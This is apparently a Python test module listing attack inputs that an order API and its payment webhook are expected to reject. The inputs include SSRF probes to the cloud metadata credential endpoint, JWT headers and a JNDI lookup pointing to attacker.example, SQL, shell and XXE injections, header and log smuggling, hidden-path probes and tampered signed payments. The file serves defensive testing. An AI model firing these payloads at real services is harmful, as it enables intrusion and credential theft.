"""API7 to API10: addresses to fetch, hostile texts, forgotten paths, providers gone wrong."""

from __future__ import annotations

import json
from typing import Any, Final

from tests.support.attempts.attempt import INVALID, Attempt, Risk
from tests.support.attempts.authentication import presented, with_own_key
from tests.support.attempts.requests import GET, MINE, ask, charge, raw, rows, signed, webhook

MALFORMED: Final = "400"
_METADATA: Final = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
_MY_ORDERS: Final = json.dumps({"query": "{ myOrders { nextToken } }"})


def _get(order_id: str) -> Any:
    return ask(GET, {"orderId": order_id})


SERVER_SIDE: Final[list[Attempt]] = [
    *rows(Risk.SERVER_SIDE, "401", {
        "a token that names its key's address (jku)": presented(
            with_own_key(jku="http://attacker.example/jwks.json")
        ),
        "a token that names its certificate's address (x5u)": presented(
            with_own_key(x5u="http://169.254.169.254/latest/meta-data/")
        ),
        "a token whose key id is an address": presented(
            with_own_key(kid="http://attacker.example/key")
        ),
    }),
    *rows(Risk.SERVER_SIDE, "OrderNotFound", {
        "the metadata service as an order": _get(_METADATA),
        "a file as an order": _get("file:///proc/self/environ"),
        "an address with a user as an order": _get("http://aws@169.254.169.254/"),
        "the function's own interface as an order": _get(
            "http://localhost:9001/2018-06-01/runtime/invocation/next"
        ),
        "an address of IPv6 as an order": _get("http://[::ffff:169.254.169.254]/"),
    }),
    *rows(Risk.SERVER_SIDE, "InvalidRequest", {
        "an address as a page's token": ask(MINE, {"nextToken": _METADATA}),
    }),
]  # fmt: skip

CONFIGURATION: Final[list[Attempt]] = [
    *rows(Risk.CONFIGURATION, "OrderNotFound", {
        "SQL": _get("'; DROP TABLE orders; --"),
        "a template of Jinja": _get("{{ 7 * 7 }}"),
        "an expression of JSONata": _get("{% $states.context %}"),
        "a look-up of JNDI": _get("${jndi:ldap://attacker.example/a}"),
        "a script": _get("<script>alert(1)</script>"),
        "a command of a shell": _get("$(id); `id` | id"),
        "a line of a log": _get('x"}\n{"level": "INFO", "message": "order paid"}'),
        "a header of an answer": _get("x\r\nSet-Cookie: session=1"),
        "characters that turn the direction": _get("\u202eredro\u202c"),
        "a path of Windows": _get("..\\..\\windows\\win.ini"),
    }),
    *rows(Risk.CONFIGURATION, MALFORMED, {
        "XML with an external entity": raw(
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            headers={"content-type": "application/xml"},
        ),
        "a form": raw(
            "query={myOrders{nextToken}}",
            headers={"content-type": "application/x-www-form-urlencoded"},
        ),
        "a body in UTF-16": raw(_MY_ORDERS.encode("utf-16")),
        "a body that is no UTF-8": raw(b'{"query": "\xff\xfe"}'),
        "a body with a comment": raw('{"query": "{ myOrders { nextToken } }" /* x */}'),
        "a body in single quotes": raw("{'query': '{ myOrders { nextToken } }'}"),
        "an empty body": raw(""),
        "a number as a body": raw("0"),
        "a query that is a list": raw('{"query": ["{ myOrders { nextToken } }"]}'),
        "variables that are a text": raw(
            json.dumps({"query": "{ myOrders { nextToken } }", "variables": "{}"})
        ),
        "a persisted query's digest without a query": raw(
            json.dumps({"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "0" * 64}}})
        ),
        "a query cut off": ask("query { myOrders { items {"),
    }),
    *rows(Risk.CONFIGURATION, "405", {
        "a query by GET": raw(
            b"", method="GET", path="/graphql?query=%7BmyOrders%7BnextToken%7D%7D"
        ),
        "TRACE": raw(b"", method="TRACE"),
        "DELETE": raw(_MY_ORDERS, method="DELETE"),
        "PATCH": raw(_MY_ORDERS, method="PATCH"),
    }),
]  # fmt: skip

INVENTORY: Final[list[Attempt]] = [
    *rows(Risk.INVENTORY, INVALID, {
        f"the forgotten operation {name}": ask(f"{kind} {{ {name} {{ orderId }} }}")
        for kind, name in (
            ("query", "listOrders"), ("query", "allOrders"), ("query", "customers"),
            ("query", "getOrderV1"), ("query", "health"), ("mutation", "createOrder"),
            ("mutation", "updateOrder"), ("mutation", "deleteOrder"), ("mutation", "resumeOrder"),
            ("mutation", "refundOrder"), ("mutation", "setPrice"),
        )
    }),
    *rows(Risk.INVENTORY, "404", {
        f"the path {path}": raw(_MY_ORDERS, path=path)
        for path in (
            "/", "/v1/graphql", "/graphql/v1", "/graphiql", "/playground", "/admin",
            "/_ministack/health", "/.env", "/graphql/../_ministack/ses/messages",
        )
    }),
]  # fmt: skip


def _paid(**changes: Any) -> Any:
    """A payment that PayStack's key signed and that is not the order's."""
    return webhook(charge(**changes), signed)


PROVIDERS: Final[list[Attempt]] = [
    *rows(Risk.PROVIDERS, "mismatch", {
        "a signed payment of a kobo": _paid(amount=1),
        "a signed payment of nothing": _paid(amount=0),
        "a signed payment in dollars": _paid(currency="USD"),
        "a signed payment that failed": _paid(status="failed"),
        "a signed payment that was reversed": _paid(status="reversed"),
    }),
    *rows(Risk.PROVIDERS, {"mismatch", "unreadable"}, {
        "a signed payment of less than nothing": _paid(amount=-240_100),
        "a signed payment of 2^63": _paid(amount=2**63),
        "a signed payment without a currency": _paid(currency=""),
        "a signed payment with a status of another case": _paid(status="SUCCESS "),
    }),
    *rows(Risk.PROVIDERS, "unreadable", {
        "a signed payment with its amount as a list": _paid(amount=[1]),
        "a signed payment with its amount as words": _paid(amount="a lot"),
        "a signed payment of NaN": webhook(
            json.dumps(charge(amount=float("nan"))), signed
        ),
        "a signed payment whose reference is an object": _paid(reference={"$ne": None}),
        "a signed payment without a reference": _paid(reference=None),
        "a signed event without data": webhook({"event": "charge.success"}, signed),
        "a signed event with data that is a list": webhook(
            {"event": "charge.success", "data": [charge()]}, signed
        ),
        "a signed event that is a list": webhook([charge()], signed),
        "a signed event cut off": webhook('{"event": "charge.success", "data": {', signed),
        "a signed event that is no UTF-8": webhook(b'{"event": "\xff"}', signed),
        "a signed event without a name": webhook({"data": charge()["data"]}, signed),
    }),
    *rows(Risk.PROVIDERS, "unknown-order", {
        "a signed payment of an unknown reference": _paid(reference="unknown-order-1"),
    }),
    *rows(Risk.PROVIDERS, {"unknown-order", "unreadable"}, {
        "a signed payment whose reference is SQL": _paid(reference="' OR 1=1; --"),
        "a signed payment whose reference is a path": _paid(reference="../<reference>"),
    }),
    *rows(Risk.PROVIDERS, "ignored", {
        "a signed event of another kind": webhook(
            {**charge(), "event": "transfer.success"}, signed
        ),
        "a signed event whose name differs by case": webhook(
            {**charge(), "event": "Charge.Success"}, signed
        ),
        "a signed event of an unknown kind": webhook({**charge(), "event": "order.paid"}, signed),
    }),
]  # fmt: skip
